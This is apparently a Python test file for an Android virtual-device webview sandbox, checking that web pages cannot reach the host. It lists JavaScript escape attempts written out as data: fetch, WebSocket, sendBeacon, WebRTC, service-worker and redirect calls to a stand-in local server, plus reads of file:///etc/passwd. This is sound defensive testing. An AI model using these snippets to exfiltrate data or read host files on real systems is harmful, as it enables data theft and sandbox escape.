"""Pages try to get out of the phone."""

from __future__ import annotations

import http.server
import socket
import threading
from collections.abc import Iterator

import pytest

from android_world.virtual_device import web
from tests.virtual_device.web.conftest import Web

HELLO = '<meta name="viewport" content="width=device-width"><p id=hello>Hello</p>'


class _Seen(http.server.BaseHTTPRequestHandler):
    visits: list[str]

    def do_GET(self) -> None:
        self.visits.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(b"you are out")

    do_POST = do_GET

    def log_message(self, *args: object) -> None:
        """Say nothing."""


@pytest.fixture
def outside() -> Iterator[tuple[str, list[str]]]:
    """A server of the host: its address, and the paths that were asked of it."""
    visits: list[str] = []
    server = http.server.ThreadingHTTPServer(
        ("127.0.0.1", 0), type("Seen", (_Seen,), {"visits": visits})
    )
    threading.Thread(target=server.serve_forever, args=[0.02], daemon=True).start()
    yield f"127.0.0.1:{server.server_port}", visits
    server.shutdown()
    server.server_close()


ATTEMPTS = {
    "fetch": "fetch('http://HOST/fetch').then(r => console.log('OUT'), e => console.log('no'))",
    "xhr": """const x = new XMLHttpRequest(); x.onerror = () => console.log('no');
        x.onload = () => console.log('OUT'); x.open('GET', 'http://HOST/xhr'); x.send()""",
    "image": """const i = new Image(); i.onerror = () => console.log('no');
        i.onload = () => console.log('OUT'); i.src = 'http://HOST/image'""",
    "socket": """const s = new WebSocket('ws://HOST/socket'); s.onerror = () => console.log('no');
        s.onopen = () => console.log('OUT')""",
    "events": """const s = new EventSource('http://HOST/events');
        s.onerror = () => { s.close(); console.log('no'); }; s.onopen = () => console.log('OUT')""",
    "beacon": "navigator.sendBeacon('http://HOST/beacon', 'x'); console.log('no')",
    "frame": """const f = document.createElement('iframe'); f.src = 'http://HOST/frame';
        f.onload = () => console.log('no'); document.body.append(f)""",
    "worker": """const w = new Worker(URL.createObjectURL(new Blob([
        "fetch('http://HOST/worker').then(() => postMessage('OUT'), () => postMessage('no'))"])));
        w.onmessage = e => console.log(e.data)""",
    "worker socket": """const w = new Worker(URL.createObjectURL(new Blob([
        "const s = new WebSocket('ws://HOST/ws'); s.onerror = () => postMessage('no');" +
        "s.onopen = () => postMessage('OUT')"]))); w.onmessage = e => console.log(e.data)""",
    "prefetch": """for (const rel of ['prefetch', 'preload', 'dns-prefetch', 'preconnect']) {
        const l = document.createElement('link'); l.rel = rel; l.href = 'http://HOST/' + rel;
        document.head.append(l); } console.log('no')""",
    "form": """const f = document.createElement('form'); f.action = 'http://HOST/form';
        f.target = '_blank'; document.body.append(f); f.submit(); console.log('no')""",
    "window": "window.open('http://HOST/window'); console.log('no')",
    "module": "import('http://HOST/m.js').then(() => console.log('OUT'), () => console.log('no'))",
    "host module": "import('file:///etc/hostname').catch(() => console.log('no'))",
    "unloading": """fetch('http://HOST/k', {keepalive: true}).catch(() => console.log('no'));
        addEventListener('pagehide', () => navigator.sendBeacon('http://HOST/hide'));
        setTimeout(() => location.reload(), 100)""",
    "host file": """fetch('file:///etc/passwd').then(r => r.text()).then(
        t => console.log(t.includes('root') ? 'OUT' : 'no'), () => console.log('no'))""",
    "host file in a frame": """const f = document.createElement('iframe');
        f.src = 'file:///etc/passwd'; f.onload = () => console.log('no');
        document.body.append(f)""",
}


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_nothing_leaves_the_phone(ui: Web, outside: tuple[str, list[str]], attempt: str) -> None:
    host, visits = outside
    app = ui.show(HELLO)
    app.web.evaluate(f"{{ {ATTEMPTS[attempt].replace('HOST', host)}; 0 }}")
    ui.device.advance(5000)
    for _ in range(200):  # Threads beside the page's answer when the host lets them.
        if "no" in app.lines:
            break
        app.web.evaluate("0")
        ui.device.advance(20)
    assert "OUT" not in app.lines
    assert visits == []
    assert "no" in app.lines


REDIRECTED = {
    "page": "location.href = 'https://example.com/away'",
    "fetch": "fetch('https://example.com/away').then(r => console.log('OUT'), () => 0)",
    "picture": "const i = new Image(); i.onload = () => console.log('OUT'); "
    "i.src = 'https://example.com/away'",
    "frame": "const f = document.createElement('iframe'); "
    "f.src = 'https://example.com/away'; document.body.append(f)",
}


@pytest.mark.parametrize("kind", REDIRECTED)
def test_no_redirection_leads_out(ui: Web, outside: tuple[str, list[str]], kind: str) -> None:
    host, visits = outside
    answer = web.Response(b"", status=302, headers={"Location": f"http://{host}/redirected"})
    app = ui.show(HELLO, files={"https://example.com/away": answer})
    app.web.evaluate(f"{{ {REDIRECTED[kind]}; 0 }}")
    ui.device.advance(3000)
    assert "https://example.com/away" in app.asked
    assert visits == []
    assert app.lines == []


def test_no_service_worker_is_installed(ui: Web, outside: tuple[str, list[str]]) -> None:
    host, visits = outside
    worker = f"fetch('http://{host}/worker')"
    safe = "https://example.com/"
    app = ui.show(HELLO, files={safe: HELLO, f"{safe}worker.js": worker})
    app.web.load(safe)
    app.web.evaluate(
        """navigator.serviceWorker.register('/worker.js').then(
            () => console.log('installed'), () => console.log('no')); 0"""
    )
    ui.device.advance(5000)
    assert app.lines == ["no"]
    assert visits == []


def test_a_page_that_sends_itself_away_arrives_nowhere(
    ui: Web, outside: tuple[str, list[str]]
) -> None:
    host, visits = outside
    page = ui.show(HELLO).web
    page.evaluate(f"location.href = 'http://{host}/away'")
    ui.device.advance(2000)
    assert visits == []
    assert page.error == "net::ERR_INTERNET_DISCONNECTED"
    page.load("file:///etc/passwd")
    assert page.evaluate("document.documentElement.textContent").count("root:") == 0
    page.load("chrome://version")
    assert "Command Line" not in page.evaluate("document.documentElement.textContent")


def test_no_calls_between_browsers_leave_the_phone(ui: Web) -> None:
    app = ui.show(HELLO)
    app.web.evaluate(
        """const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:9'}]});
        peer.createDataChannel('x');
        peer.onicecandidate = e => { if (e.candidate) console.log('OUT ' + e.candidate.candidate) };
        peer.createOffer().then(o => peer.setLocalDescription(o)); 0"""
    )
    ui.device.advance(5000)
    assert app.lines == []


def test_no_datagram_leaves_the_phone(ui: Web) -> None:
    app = ui.show(HELLO)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as outside:
        outside.bind(("127.0.0.1", 0))
        outside.setblocking(False)
        host = f"127.0.0.1:{outside.getsockname()[1]}"
        app.web.evaluate(
            f"""new WebTransport('https://{host}/').ready.then(
                () => console.log('OUT'), () => console.log('no'));
            const peer = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{host}'}},
                {{urls: 'turn:{host}?transport=udp', username: 'a', credential: 'b'}}]}});
            peer.createDataChannel('x');
            peer.createOffer().then(o => peer.setLocalDescription(o)); 0"""
        )
        ui.device.advance(5000)
        assert app.lines == ["no"]
        with pytest.raises(BlockingIOError):
            outside.recv(1)


def test_a_download_goes_to_the_app_or_nowhere(ui: Web) -> None:
    app = ui.show(
        HELLO + "<a id=get download=x.bin href='data:application/octet-stream,abc'>Get</a>"
    )
    app.web.on_download = app.note
    ui.tap("get")
    ui.device.advance(1000)
    assert app.noted == [("data:application/octet-stream,abc", "x.bin")]


def test_a_new_window_is_the_apps_to_open(ui: Web) -> None:
    app = ui.show(HELLO + "<a id=new target=_blank href='https://example.com/a'>New</a>")
    app.web.on_new_window = app.note
    ui.tap("new")
    ui.device.advance(1000)
    assert app.noted == ["https://example.com/a"]
    assert ui.has("hello")
